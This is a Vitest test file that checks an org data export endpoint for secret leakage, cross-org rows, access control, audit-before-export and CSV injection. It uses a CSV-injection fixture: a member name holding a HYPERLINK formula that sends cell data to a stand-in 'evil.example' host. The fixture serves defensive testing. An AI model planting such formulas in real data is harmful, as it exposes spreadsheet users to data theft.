/**
 * An org admin's export of the org's data (issue 19, item 5; GDPR Art. 20):
 * `GET /api/v1/orgs/{org}/export?format=json|csv`, on SQLite and PostgreSQL.
 *
 * The threats: an export is a bulk read of everything an org holds, so it must never carry a
 * secret value, a key, a client secret or a hash of one (scanned against what the database
 * actually stores), never another org's rows, never be readable by a member without
 * `org.export` (403) or by a non-member (404, existence not revealed); and its CSV must not
 * turn a member's name into a spreadsheet formula (`=HYPERLINK(…)`: CSV injection). It is
 * audited before anything is read: a log that cannot record means no export.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MemoryAuditLog } from '../../src/kernel/adapters/memory/memory-audit-log.js';
import { DomainError } from '../../src/kernel/domain/errors.js';
import type { AuditEvent } from '../../src/kernel/ports/audit-log.js';
import { backends, type BackendInstance } from '../helpers/backends.js';
import { ADMIN_ENV, login, type Grant } from '../helpers/identity.js';
import {
  as,
  createUser,
  fillTenantTables,
  inviteMember,
  MEMBER_PASSWORD,
  orgWithOwner,
  type OrgBody,
  type OrgUser,
} from '../helpers/orgs.js';
import { expectProblem } from '../helpers/problems.js';
import { testServer, type TestServer } from '../helpers/rampart.js';

/** The in-memory log, refusing one action as an unavailable log does. */
class FailingAuditLog extends MemoryAuditLog {
  failOn: string | undefined;

  override record(event: AuditEvent): Promise<void> {
    if (event.action === this.failOn) return Promise.reject(new DomainError('audit_unavailable', 'The audit log cannot record'));
    return super.record(event);
  }
}

const FORMULA_NAME = '=HYPERLINK("https://evil.example/?q="&A1,"click")';
const SECTIONS = ['org', 'members', 'roles', 'role_versions', 'invitations', 'secrets', 'secret_versions', 'api_keys', 'service_clients'];

interface ExportDocument {
  format: string;
  version: number;
  exported_at: string;
  org_id: string;
  sections: Record<string, Record<string, unknown>[]>;
}

/** The parts of a multipart/mixed body (RFC 2046): each part's headers and body. */
function multipartParts(contentType: string, body: string): { headers: string; body: string }[] {
  const boundary = /boundary=([^;]+)/.exec(contentType)?.[1];
  if (boundary === undefined) throw new Error(`no boundary in ${contentType}`);
  expect(body.endsWith(`\r\n--${boundary}--\r\n`)).toBe(true);
  const inner = body.slice(`--${boundary}\r\n`.length, -`\r\n--${boundary}--\r\n`.length);
  return inner.split(`\r\n--${boundary}\r\n`).map((part) => {
    const split = part.indexOf('\r\n\r\n');
    return { headers: part.slice(0, split), body: part.slice(split + 4) };
  });
}

/** RFC 4180 records of `text` (quoted fields may hold commas, quotes and line breaks). */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      record.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else {
      field += c;
    }
  }
  expect(field).toBe('');
  return records;
}

for (const backend of await backends()) {
  describe(`the org export on ${backend.name}`, () => {
    let instance: BackendInstance;
    let server: TestServer;
    const audit = new FailingAuditLog();
    let admin: Grant;
    let org: OrgBody;
    let owner: OrgUser;
    let other: OrgBody;
    let otherOwner: OrgUser;
    let viewer: OrgUser;

    beforeAll(async () => {
      instance = await backend.create();
      server = await testServer(instance, { env: ADMIN_ENV, audit });
      const app = server.app;
      admin = await login(app);
      ({ org, owner } = await orgWithOwner(app, admin));
      ({ org: other, owner: otherOwner } = await orgWithOwner(app, admin));
      await fillTenantTables(app, owner.grant, org);
      await fillTenantTables(app, otherOwner.grant, other);
      // Names an attacker controls, shaped as spreadsheet formulas.
      const created = await as(app, admin, 'POST', '/api/v1/users', {
        email: 'formula@example.test',
        password: MEMBER_PASSWORD,
        name: FORMULA_NAME,
      });
      expect(created.statusCode, created.body).toBe(201);
      viewer = {
        id: created.json<{ id: string }>().id,
        email: 'formula@example.test',
        grant: await login(app, 'formula@example.test', MEMBER_PASSWORD),
      };
      await inviteMember(app, owner.grant, org.id, viewer, 'viewer');
      const put = await as(app, owner.grant, 'PUT', `/api/v1/orgs/${org.id}/secrets/-2+3`, { value: 'x' });
      expect(put.statusCode).toBe(400); // a secret name cannot hold a '+'; '-danger' can:
      expect(
        (await as(app, owner.grant, 'PUT', `/api/v1/orgs/${org.id}/secrets/-danger`, { value: `second value of ${org.slug}` })).statusCode,
      ).toBe(200);
      expect(
        (await as(app, otherOwner.grant, 'PUT', `/api/v1/orgs/${other.id}/secrets/only-in-other`, { value: 'other value' })).statusCode,
      ).toBe(200);
    });

    afterAll(async () => {
      await server?.close();
      await instance?.cleanup();
    });

    /** Everything stored that must never leave in an export: secret values, ciphertexts, key and secret hashes, password hashes. */
    async function storedSecrets(): Promise<string[]> {
      const db = server.stored.db;
      const values = [`value of ${org.slug}`, `second value of ${org.slug}`, 'other value'];
      const ciphertexts = (await db.selectFrom('secret_versions').select('ciphertext').execute()).map((row) => row.ciphertext);
      const wrapped = (await db.selectFrom('secret_data_keys').select('wrapped').execute()).map((row) => row.wrapped);
      const keyHashes = (await db.selectFrom('api_keys').select('key_hash').execute()).map((row) => row.key_hash);
      const clientHashes = (await db.selectFrom('service_clients').select('secret_hash').execute()).flatMap((row) => row.secret_hash ?? []);
      const passwords = (await db.selectFrom('users').select('password_hash').execute()).flatMap((row) => row.password_hash ?? []);
      const found = [...values, ...ciphertexts, ...wrapped, ...keyHashes, ...clientHashes, ...passwords];
      expect(keyHashes.length).toBeGreaterThanOrEqual(2);
      expect(clientHashes.length).toBeGreaterThanOrEqual(2);
      return found;
    }

    it('backups 5: an owner gets the org as one JSON attachment with every section, and the export is audited', async () => {
      const before = audit.events().length;
      const response = await as(server.app, owner.grant, 'GET', `/api/v1/orgs/${org.slug}/export`);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="rampart-org-export-[a-z0-9-]+\.json"$/);
      expect(response.headers['cache-control']).toBe('no-store');
      const document = response.json<ExportDocument>();
      expect(document).toMatchObject({ format: 'rampart.org-export', version: 1, org_id: org.id });
      expect(Object.keys(document.sections)).toEqual(expect.arrayContaining(SECTIONS));
      const { sections } = document;
      expect(sections.org).toEqual([expect.objectContaining({ id: org.id, slug: org.slug })]);
      expect(sections.members?.map((m) => m.user_id).sort()).toEqual([owner.id, viewer.id].sort());
      expect(sections.members?.find((m) => m.user_id === viewer.id)).toMatchObject({ name: FORMULA_NAME, role: 'viewer' });
      expect(sections.roles).toEqual([
        expect.objectContaining({ name: 'deployer', version: 2, permissions: ['jobs.cancel', 'jobs.read'] }),
      ]);
      expect(sections.role_versions?.map((v) => v.version)).toEqual([1, 2]);
      expect(sections.invitations).toEqual([expect.objectContaining({ email: `invitee@${org.slug}.example.test`, role: 'viewer' })]);
      // Other capabilities keep secrets of their own in the org (a webhook's signing secret): names only, sorted.
      const names = sections.secrets?.map((s) => String(s.name)) ?? [];
      expect(names).toEqual(expect.arrayContaining(['-danger', 'db-password']));
      expect(names).toEqual([...names].sort());
      expect(sections.secret_versions).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ name: '-danger', version: 1 }),
          expect.objectContaining({ name: 'db-password', version: 1 }),
        ]),
      );
      expect(sections.api_keys).toEqual([expect.objectContaining({ name: 'ci', scopes: ['secrets.read'], user_id: owner.id })]);
      expect(sections.service_clients).toEqual([expect.objectContaining({ name: 'worker', auth_method: 'client_secret_basic' })]);
      const entries = audit
        .events()
        .slice(before)
        .filter((event) => event.action === 'org.export');
      expect(entries).toEqual([
        expect.objectContaining({ org: org.id, actor: { type: 'user', id: owner.id }, result: 'success', resource: `org:${org.id}` }),
      ]);
      expect(entries[0]?.details).toMatchObject({ format: 'json', sections: expect.arrayContaining(SECTIONS) });
    });

    it('backups 5: no secret value, ciphertext, wrapped key, key hash, client secret hash or password hash is in any form of the export', async () => {
      const forbidden = await storedSecrets();
      for (const url of [`/api/v1/orgs/${org.id}/export`, `/api/v1/orgs/${org.id}/export?format=csv`]) {
        const body = (await as(server.app, owner.grant, 'GET', url)).body;
        for (const value of forbidden) expect(body.includes(value), `${url} holds a stored secret`).toBe(false);
        for (const column of ['key_hash', 'secret_hash', 'ciphertext', 'password_hash', 'wrapped', 'jwks'])
          expect(body).not.toContain(column);
      }
    });

    it("backups 5: another org's rows are absent", async () => {
      const body = (await as(server.app, owner.grant, 'GET', `/api/v1/orgs/${org.id}/export`)).body;
      for (const foreign of [other.id, other.slug, otherOwner.id, otherOwner.email, 'only-in-other', `invitee@${other.slug}`]) {
        expect(body, foreign).not.toContain(foreign);
      }
    });

    it('backups 5: CSV is one multipart/mixed body with one RFC 4180 table per section, formula cells neutralised', async () => {
      const response = await as(server.app, owner.grant, 'GET', `/api/v1/orgs/${org.id}/export?format=csv`);
      expect(response.statusCode, response.body).toBe(200);
      const contentType = String(response.headers['content-type']);
      expect(contentType).toMatch(/^multipart\/mixed; boundary=rampart-[0-9a-f]{32}$/);
      const parts = multipartParts(contentType, response.body);
      expect(parts.map((part) => /filename="([a-z_]+)\.csv"/.exec(part.headers)?.[1])).toEqual(expect.arrayContaining(SECTIONS));
      for (const part of parts) expect(part.headers).toContain('Content-Type: text/csv; charset=utf-8; header=present');
      const members = parts.find((part) => part.headers.includes('filename="members.csv"'));
      const records = csvRecords(members?.body ?? '');
      expect(records[0]).toEqual(['user_id', 'email', 'name', 'role', 'joined_at']);
      const row = records.find((record) => record[0] === viewer.id);
      // The formula starts with a quote: a spreadsheet shows it as text and runs nothing.
      expect(row?.[2]).toBe(`'${FORMULA_NAME}`);
      expect(members?.body).toContain(`"'=HYPERLINK(""https://evil.example/?q=""&A1,""click"")"`);
      const secrets = csvRecords(parts.find((part) => part.headers.includes('filename="secrets.csv"'))?.body ?? '');
      expect(secrets[0]?.[0]).toBe('name');
      expect(secrets.map((record) => record[0])).toEqual(expect.arrayContaining(["'-danger", 'db-password']));
      const roles = csvRecords(parts.find((part) => part.headers.includes('filename="roles.csv"'))?.body ?? '');
      expect(roles[1]?.[1]).toBe('jobs.cancel jobs.read');
    });

    it('backups 5: one section as CSV is a plain text/csv attachment', async () => {
      const response = await as(server.app, owner.grant, 'GET', `/api/v1/orgs/${org.id}/export?format=csv&section=members`);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
      expect(response.headers['content-disposition']).toMatch(/filename="rampart-org-export-[a-z0-9-]+-members\.csv"/);
      expect(csvRecords(response.body)).toHaveLength(3);
    });

    it('backups 5: an unknown section or format is 400 validation_failed', async () => {
      expectProblem(await as(server.app, owner.grant, 'GET', `/api/v1/orgs/${org.id}/export?section=passwords`), 'validation_failed');
      expectProblem(await as(server.app, owner.grant, 'GET', `/api/v1/orgs/${org.id}/export?format=xlsx`), 'validation_failed');
    });

    it('backups 5: a viewer (no org.export) gets 403; a member of another org gets 404; neither is exported anything', async () => {
      const before = audit.events().filter((event) => event.action === 'org.export').length;
      expectProblem(await as(server.app, viewer.grant, 'GET', `/api/v1/orgs/${org.id}/export`), 'forbidden');
      expectProblem(await as(server.app, otherOwner.grant, 'GET', `/api/v1/orgs/${org.id}/export`), 'not_found');
      expectProblem(await as(server.app, otherOwner.grant, 'GET', `/api/v1/orgs/${org.slug}/export?format=csv`), 'not_found');
      expect(audit.events().filter((event) => event.action === 'org.export')).toHaveLength(before);
    });

    it('backups 5: an admin holds org.export', async () => {
      const adminUser = await createUser(server.app, admin);
      await inviteMember(server.app, owner.grant, org.id, adminUser, 'admin');
      expect((await as(server.app, adminUser.grant, 'GET', `/api/v1/orgs/${org.id}/export?section=org`)).statusCode).toBe(200);
    });

    it('backups 5: when the audit log cannot record, nothing is exported (503 audit_unavailable)', async () => {
      audit.failOn = 'org.export';
      try {
        const response = await as(server.app, owner.grant, 'GET', `/api/v1/orgs/${org.id}/export`);
        expectProblem(response, 'audit_unavailable');
        expect(response.body).not.toContain(org.slug);
      } finally {
        audit.failOn = undefined;
      }
    });
  });
}
